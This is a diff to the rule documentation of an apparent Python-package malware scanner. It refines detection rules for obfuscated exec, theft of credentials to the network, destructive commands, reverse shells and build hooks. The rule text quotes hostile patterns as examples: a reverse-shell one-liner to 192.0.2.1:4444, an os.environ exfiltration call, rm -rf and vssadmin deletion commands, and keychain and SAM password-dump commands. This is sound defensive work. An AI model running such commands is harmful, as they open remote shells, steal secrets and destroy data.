@@ -297,7 +297,8 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     catches:
       'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR), in the argument or in what a loop appends to the name it passes: a cipher with no standard decoder to undo it. High even in code a user calls (no benign package measured hides code this way); critical in code that runs at install, start-up or import.',
     example: 'exec("".join(KEY[ABC.index(c)] for c in "kirmg(...)"))',
-    falsePositives: 'Code generators that rewrite a long template per character (none seen on the benign set).',
+    falsePositives:
+      "Code generators that rewrite a long template per character (none seen on the benign set). A local function counts as the decoder only when its body rewrites characters (ord/chr arithmetic, XOR, translate, a modular shift): a method that sends code to an interpreter and loops over its answer (sage's gap.eval) is not one.",
   },
   {
     id: 'obfuscated-builtin',
@@ -366,10 +367,10 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'high',
     catches:
-      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots; a parameter named for a wallet's private key or recovery phrase) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
+      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets (also read through pathlib: Path.home() / '.aws' / 'credentials'); the output of commands that dump saved passwords (security dump-keychain, netsh wlan show profile key=clear, reg save hklm\\sam); machine identity such as host name, user name, MAC address; clipboard, screenshots; a parameter named for a wallet's private key or recovery phrase) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
     example: 'requests.post(URL, json=dict(os.environ))',
     falsePositives:
-      "Cloud SDKs and API clients that send a credential to their own service when the user calls them: low for a named environment variable or the machine's identity (platform name in a download URL) sent to a hard-coded host of no shady kind; medium for credential files. Arguments the API uses locally are not sinks (where urlretrieve saves, requests' cert and verify, paramiko's key_filename and pkey, a host passed whole). The environment filtered by a positive condition on at most three named prefixes or names of four characters or more, none of them a secret (`if k.startswith(\"KERNEL_\")`, jupyter-server's gateway), counts as variables selected by name, not the whole environment; a negated filter, many short prefixes, or a list of secret names does not.",
+      "Cloud SDKs and API clients that send a credential to their own service when the user calls them: low for a named environment variable or the machine's identity (platform name in a download URL) sent to a hard-coded host of no shady kind; medium for credential files. A parameter named private_key or priv_key (a server certificate's or an SSH key pair's as much as a wallet's) sent when called to a host of no shady kind is medium, not high (libcloud uploading a certificate key; a drainer posting to a collector, a tunnel or a bot stays high); recovery phrases and wallet-named keys are not. Arguments the API uses locally are not sinks (where urlretrieve saves, requests' cert and verify, paramiko's key_filename and pkey, a host passed whole). The environment filtered by a positive condition on at most three named prefixes or names of four characters or more, none of them a secret (`if k.startswith(\"KERNEL_\")`, jupyter-server's gateway), counts as variables selected by name, not the whole environment; a negated filter, many short prefixes, or a list of secret names does not.",
   },
   {
     id: 'sensitive-file-access',
@@ -420,7 +421,8 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     catches:
       "A command line that deletes the user's home folder, its document folders, the root or a system folder (rm -rf ~, rm -rf /), a whole Windows drive (rd /s /q C:\\, del /f /s /q C:\\, format C:), Windows' shadow copies and recovery (vssadmin delete shadows, bcdedit ... recoveryenabled no), or overwrites a disk (dd of=/dev/sda, mkfs), or a fork bomb. Critical in code that runs at install, start-up or import.",
     example: 'subprocess.call("rm -rf ~/Documents", shell=True)',
-    falsePositives: 'Cleanup of build, cache or temporary folders does not match (rm -rf build/, ~/.cache/x).',
+    falsePositives:
+      'Cleanup of build, cache or temporary folders does not match (rm -rf build/, ~/.cache/x), nor does deleting one shadow copy by its id (vssadmin delete shadows /shadow={id}: a remote-administration tool removing the copy it made).',
   },
   // install-time hooks
   {
@@ -503,7 +505,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
       'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell; a web handler (flask, bottle, fastapi, tornado, aiohttp, http.server, ...) that hands a shell a command line read from the request (a web shell); a shell handed command lines that come from an HTTP reply (a loop polling its controller).',
     example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
     falsePositives:
-      "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design).",
+      "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design). A daemon that puts a descriptor opened from a path (os.open(os.devnull), open(log).fileno()) behind its standard streams is not a socket wired to them.",
   },
   {
     id: 'keylogger',
@@ -521,7 +523,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'install-hook',
     severity: 'low',
     catches:
-      'An sdist whose pyproject.toml builds it with an in-tree PEP 517 backend (backend-path), a hatch custom build hook (hatch_build.py or its path), a pdm build hook (pdm_build.py), or setuptools command classes named in pyproject.toml ([tool.setuptools.cmdclass]) or setup.cfg (cmdclass under [options]): pip runs that code when it installs the sdist, and pyguard analyses it as install-time code.',
+      'An sdist whose pyproject.toml builds it with an in-tree PEP 517 backend (backend-path), a hatch custom build hook (hatch_build.py or its path), a pdm build hook (pdm_build.py), a poetry build script ([tool.poetry.build] script, or build = under [tool.poetry]), or setuptools command classes named in pyproject.toml ([tool.setuptools.cmdclass]) or setup.cfg (cmdclass under [options]): pip runs that code when it installs the sdist, and pyguard analyses it as install-time code.',
     example: '[build-system] build-backend = "backend" backend-path = ["_build"]',
     falsePositives:
       'Projects that build themselves (setuptools, flit_core) and legitimate hatch hooks that generate files.',
